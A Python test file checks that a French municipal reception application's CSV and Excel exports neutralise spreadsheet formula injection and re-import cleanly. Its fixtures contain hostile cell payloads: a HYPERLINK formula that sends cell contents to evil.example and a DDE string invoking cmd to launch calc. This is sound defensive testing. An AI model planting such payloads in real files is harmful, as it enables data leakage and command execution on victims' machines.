"""Acceptance (issue 12, exports): every CSV and Excel file the application writes, made from
data full of cells a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR), runs nothing — the
CSV bytes and the workbook's cell types are read, not trusted — and every export that has an
import comes back through it unchanged. Real services, a real database, real files."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from citizenspace.domain.catalog import Channel, Competence, VisitOutcome
from citizenspace.domain.reception.directory import EntryDraft
from citizenspace.services.common.spreadsheets import FORMULA_SIGNS, restore, write_csv
from citizenspace.services.people.people_import import PeopleImportService
from citizenspace.services.reception.directory import DirectoryService
from citizenspace.services.reception.directory_io import DirectoryFiles
from citizenspace.services.reception.open311 import REQUEST_FIELDS, Open311Service
from citizenspace.services.reception.quality import QualityService
from citizenspace.services.reception.tickets import CategoryDraft, TicketDraft, TicketService
from citizenspace.store.models import DirectoryEntry, Person, Site, Visit

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
CMD = "-2+3+cmd|' /C calc'!A0"
PHONE = "+33 1 23 45 67 89 (standard)"


def csv_cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet gets them from the bytes: UTF-8 with a BOM (strict), `;`."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def runnable(cells: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as formulas."""
    return [c for row in cells for c in row if c[:1] and c[0] in FORMULA_SIGNS]


def xlsx_cells(path: Path) -> list:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    return [c for row in load_workbook(path).active.iter_rows() for c in row]


# --------------------------------------------------------------------------- directory


def directory_snapshot(db) -> list[tuple]:
    with db.read() as s:
        return [
            (e.id, e.name, e.competence, e.body_name, e.keywords, e.phone, e.email)
            + (e.address, e.hours, e.website, e.theme_id, e.active)
            for e in s.scalars(select(DirectoryEntry).order_by(DirectoryEntry.id))
        ]


@pytest.fixture
def hostile_directory(db):
    service = DirectoryService(db)
    service.create(
        EntryDraft(
            LINK,
            Competence.CITY,
            body_name="@SUM(A1:A3)",
            keywords=CMD,
            phone=PHONE,
            address="-2 degrés au portail",
            hours="=1+1",
        )
    )
    service.create(
        EntryDraft(
            "=1+1 Service",
            Competence.URBAN_COMMUNITY,
            body_name="+",
            keywords="-",
            phone="+44 20 7946 0958",
            address="'=déjà une apostrophe",
            hours="@",
        )
    )
    tabbed = service.create(EntryDraft("''@deux apostrophes", Competence.STATE))
    # What a form never keeps but an older version or another machine may have written:
    # a tab and a carriage return in front of a value.
    with db.write() as s:
        entry = s.get(DirectoryEntry, tabbed.id)
        entry.keywords = "\tmot-clé"
        entry.hours = "\rle matin"
    return db


def test_a_directory_csv_runs_nothing_and_imports_back_unchanged(hostile_directory, tmp_path):
    db = hostile_directory
    before = directory_snapshot(db)
    files = DirectoryFiles(db, DirectoryService(db))
    path = tmp_path / "qui-fait-quoi.csv"
    files.export(path)

    assert path.read_bytes().startswith("\ufeffService;Compétence;Organisme;".encode())
    cells = csv_cells(path)
    assert runnable(cells) == []
    flat = {c for row in cells for c in row}
    for written in (
        "'" + LINK,
        "'@SUM(A1:A3)",
        "'" + CMD,
        "'" + PHONE,
        "'-2 degrés au portail",
        "'=1+1",
        "'=1+1 Service",
        "'+",
        "'-",
        "'@",
        "'+442079460958",
        "''=déjà une apostrophe",
        "'''@deux apostrophes",
        "'\tmot-clé",
        "'\rle matin",
    ):
        assert written in flat, written

    preview = files.preview(path)
    assert (preview.created, preview.updated, preview.unchanged) == (0, 0, 3)
    files.apply(preview)
    assert directory_snapshot(db) == before


def test_a_directory_workbook_holds_text_cells_and_imports_back_unchanged(
    hostile_directory, tmp_path
):
    db = hostile_directory
    before = directory_snapshot(db)
    files = DirectoryFiles(db, DirectoryService(db))
    path = tmp_path / "qui-fait-quoi.xlsx"
    files.export(path)

    cells = xlsx_cells(path)
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    by_value = {c.value: c for c in cells}
    for typed in (
        LINK,
        "=1+1",
        "@SUM(A1:A3)",
        CMD,
        PHONE,
        "-2 degrés au portail",
        "+",
        "\tmot-clé",
    ):
        assert by_value[typed].data_type == "s" and by_value[typed].quotePrefix, typed
    # Text that already looked neutralised gets one apostrophe more, taken away on import.
    assert "'''@deux apostrophes" in by_value and "''=déjà une apostrophe" in by_value

    preview = files.preview(path)
    assert (preview.created, preview.updated, preview.unchanged) == (0, 0, 3)
    files.apply(preview)
    assert directory_snapshot(db) == before


def test_a_workbook_from_an_older_version_with_formulas_imports_them_as_text(db, tmp_path):
    """Older versions wrote "=..." as live formulas with no computed value: the import read
    them as empty. They are read as the text in the cell, never computed."""
    book = Workbook()
    sheet = book.active
    sheet.append(["Service", "Compétence", "Horaires"])
    sheet.append(["=1+1 Service", "Ville", LINK])
    assert sheet["C2"].data_type == "f"
    path = tmp_path / "ancien.xlsx"
    book.save(path)
    DirectoryFiles(db).import_file(path)
    with db.read() as s:
        entry = s.scalars(select(DirectoryEntry)).one()
        assert (entry.name, entry.hours) == ("=1+1 Service", LINK)


def test_a_csv_with_formulas_typed_in_imports_them_as_text(db, tmp_path):
    path = tmp_path / "liste.csv"
    quoted_link = '"' + LINK.replace('"', '""') + '"'
    path.write_bytes(
        (
            "Service;Compétence;Téléphone;Horaires\r\n"
            f"=1+1 Service;Ville;{PHONE};{quoted_link}\r\n"
            "Point @SUM;Ville;;'-2 degrés\r\n"
        ).encode("cp1252")
    )
    DirectoryFiles(db).import_file(path)
    with db.read() as s:
        rows = {e.name: (e.phone, e.hours) for e in s.scalars(select(DirectoryEntry))}
    # An apostrophe in front of a formula sign is what our exports (and Excel saving them
    # again) put there: it is taken away; everything else is kept as typed.
    assert rows == {"=1+1 Service": (PHONE, LINK), "Point @SUM": ("", "-2 degrés")}


# --------------------------------------------------------------------------- people


def test_people_written_by_the_application_import_back_unchanged(db, tmp_path):
    """There is no people export: the file is written by the exports' own writer, as any
    future one would, and read by the people import."""
    header = ["Nom", "Prénom", "Adresse", "Téléphone", "Consentement contact", "Notes"]
    people = [
        ["=1+1", "@Marie", LINK, "+442079460958", "oui", "-2 degrés"],
        ["'=Dupont", "+Jean", "@", "", "non", CMD],
        ["Martin", "-Lou", "'''@x", "", "non", '=HYPERLINK("http://a")'],
    ]
    path = tmp_path / "personnes.csv"
    write_csv(path, [header, *people])
    assert runnable(csv_cells(path)) == []

    report = PeopleImportService(db).import_file(path)
    assert (report.imported, report.encoding, report.delimiter) == (3, "utf-8-sig", ";")
    with db.read() as s:
        stored = {
            (p.last_name, p.first_name, p.address, p.phone, p.notes)
            for p in s.scalars(select(Person))
        }
    assert stored == {(p[0], p[1], p[2], p[3], p[5]) for p in people}


# --------------------------------------------------------------------------- Open311


@pytest.fixture
def hostile_tickets(db):
    svc = TicketService(db, today=lambda: date(2026, 3, 2))
    cat = svc.add_category(CategoryDraft("voirie", "=Voirie", 21, None, "@trottoirs", "-trou"))
    svc.open_ticket(
        TicketDraft(
            cat.id, LINK, address="-2 rue d'Isle, 44000 Nantes", latitude=47.2184, longitude=-1.5536
        )
    )
    rejected = svc.open_ticket(TicketDraft(cat.id, "+33 6 12 34 56 78 appelle"))
    svc.reject(rejected, "=1+1 " + CMD)
    return db


def test_the_open311_csv_runs_nothing_and_reads_back_as_the_json(hostile_tickets, tmp_path):
    service = Open311Service(hostile_tickets)
    doc = json.loads(
        service.export_json(tmp_path / "o.json", with_staff_notes=True).files[0].read_text("utf-8")
    )
    requests_path, services_path = service.export_csv(
        tmp_path / "o.csv", with_staff_notes=True
    ).files

    cells = csv_cells(requests_path)
    assert cells[0] == list(REQUEST_FIELDS)
    # Only the coordinates the application computed start with "-": numbers, not text.
    assert runnable(cells) == ["-1.5536"]
    flat = {c for row in cells for c in row}
    assert {"'" + LINK, "'=1+1 " + CMD, "'=Voirie", "'+33 6 12 34 56 78 appelle"} <= flat

    def as_text(v: object) -> str:
        return "" if v is None else "true" if v is True else "false" if v is False else str(v)

    read_back = [[restore(c) for c in row] for row in cells[1:]]
    assert read_back == [[as_text(r[f]) for f in REQUEST_FIELDS] for r in doc["requests"]]

    services = csv_cells(services_path)
    assert runnable(services) == []
    assert [restore(c) for c in services[1]][:3] == ["voirie", "=Voirie", "@trottoirs"]


# --------------------------------------------------------------------------- quality


def test_the_quality_export_keeps_numbers_and_runs_no_site_name(db, tmp_path):
    names = ['=HYPERLINK("http://evil.example","Accueil")', "-Annexe"]
    with db.write() as s:
        for name in names:
            site = Site(name=name)
            s.add(site)
            s.flush()
            arrived = datetime(2026, 3, 2, 9)
            s.add(
                Visit(
                    site_id=site.id,
                    channel=Channel.DESK,
                    outcome=VisitOutcome.ANSWERED,
                    arrived_at=arrived,
                    started_at=arrived + timedelta(minutes=5),
                    ended_at=arrived + timedelta(minutes=10),
                    satisfaction=1,
                    wait_seconds=300,
                    service_seconds=300,
                )
            )
    service = QualityService(db, today=date(2026, 4, 1))
    report = service.indicators(date(2026, 3, 1), date(2026, 3, 31))

    rows = csv_cells(service.export(tmp_path / "q.csv", report))
    net = rows[0].index("Net satisfaction (points)")
    sites = [r[2] for r in rows[1:]]
    assert "'" + names[0] in sites and "'-Annexe" in sites
    # A negative figure the application computed stays a number for Excel.
    assert {r[net] for r in rows[1:]} == {"-100,0"}
    assert runnable(rows) == ["-100,0"] * (len(rows) - 1)

    cells = xlsx_cells(service.export(tmp_path / "q.xlsx", report))
    texts = [c for c in cells if isinstance(c.value, str)]
    assert texts and {c.data_type for c in texts} == {"s"}
    assert {c.value for c in texts} >= set(names)
    assert {c.data_type for c in cells if c.value == -100} == {"n"}
